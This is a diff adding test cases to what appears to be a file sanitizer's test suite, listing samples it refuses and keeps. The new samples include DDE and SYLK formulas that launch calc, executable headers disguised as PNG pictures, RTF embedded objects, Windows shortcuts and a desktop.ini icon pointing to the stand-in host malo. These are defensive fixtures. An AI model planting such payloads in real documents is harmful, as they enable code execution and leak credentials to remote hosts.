@@ -141,6 +141,18 @@ REFUSED = {
         made.workbook(),
         {"xl/externalLinks/externalLink1.xml": b"<externalLink><ddeLink ddeService='cmd'/></externalLink>"},
     ),
+    "DDE in a cell": made.with_parts(
+        made.workbook(), {"xl/worksheets/sheet7.xml": b"<c><f ca='1'>cmd|'/c calc'!A0</f></c>"}
+    ),
+    "a connection between others": made.with_parts(
+        made.workbook(),
+        {
+            "xl/connections.xml": b"<connections><connection id='1' refreshOnLoad='1'/>"
+            b"<connection id='2' refreshOnLoad='0'/></connections>"
+        },
+    ),
+    "program as a picture of Word": made.with_parts(made.word(), {"word/media/i.png": b"MZ\x90" + bytes(99)}),
+    "program in LibreOffice": made.open_document({"Pictures/i.png": b"\x7fELF" + bytes(99)}),
     "macros of LibreOffice": made.open_document({"Basic/Standard/Modulo1.xml": b"<script:module/>"}),
     "a script's event in LibreOffice": made.open_document(
         {"content.xml": b'<a><script:event-listener xlink:href="vnd.sun.star.script:x"/></a>'}
@@ -163,6 +175,7 @@ REFUSED = {
     "RTF with an object": rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}",
     "RTF in disguise": rb"{\rt {\objupdate{\objdata 01}}}",
     "RTF's template": rb"{\rtf1{\*\template http://malo.example/p.dotm}}",
+    "RTF after blanks": rb"  {\rtf1 {\object\objemb{\*\objdata 0105}}}",
     "RTF with DDE": rb"{\rtf1{\field{\*\fldinst{\b DDEAU}{TO cmd}}}}",
     "PDF with a script": with_script(False),
     "PDF with a packed script": with_script(True),
@@ -190,6 +203,11 @@ REFUSED = {
     "page with a table": b"<table><tr><td onclick='x()'>",
     "script further below": b"hola\n" * 40_000 + b"<script>alert(1)</script>",
     "link of Windows": b"[InternetShortcut]\r\nURL=http://malo.example\r\n",
+    "link of Windows after a remark": b"; nota\r\n\r\n[InternetShortcut]\r\nURL=http://malo.example\r\n",
+    "table in the symbols of Multiplan": b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC("calc")\r\n',
+    "view of a folder from another machine": made.zipped(
+        {"desktop.ini": b"[.ShellClassInfo]\r\nIconResource=\\\\malo\\a.ico\r\n"}
+    ),
     "starter of Linux": b"[Desktop Entry]\nExec=sh\n",
     "link of a Mac": b"<?xml version='1.0'?>\n<!DOCTYPE plist PUBLIC ''><plist/>",
     "table that starts a program": b"a;b\n=cmd|' /C calc'!A0;1\n",
@@ -289,6 +307,10 @@ KEPT = {
     "zip of pictures": (
         "a.zip",
         made.zipped({"f/1.jpg": JPEG, "f/2.jpg": JPEG, "__MACOSX/._1.jpg": b"\0\5\x16\7"}),
+    ),
+    "zip of a folder of Windows": (
+        "a.zip",
+        made.zipped({"f/1.jpg": JPEG, "f/desktop.ini": b"[.ShellClassInfo]\r\nIconIndex=3\r\n"}),
     ),
     "zip of documents": (
         "a.zip",
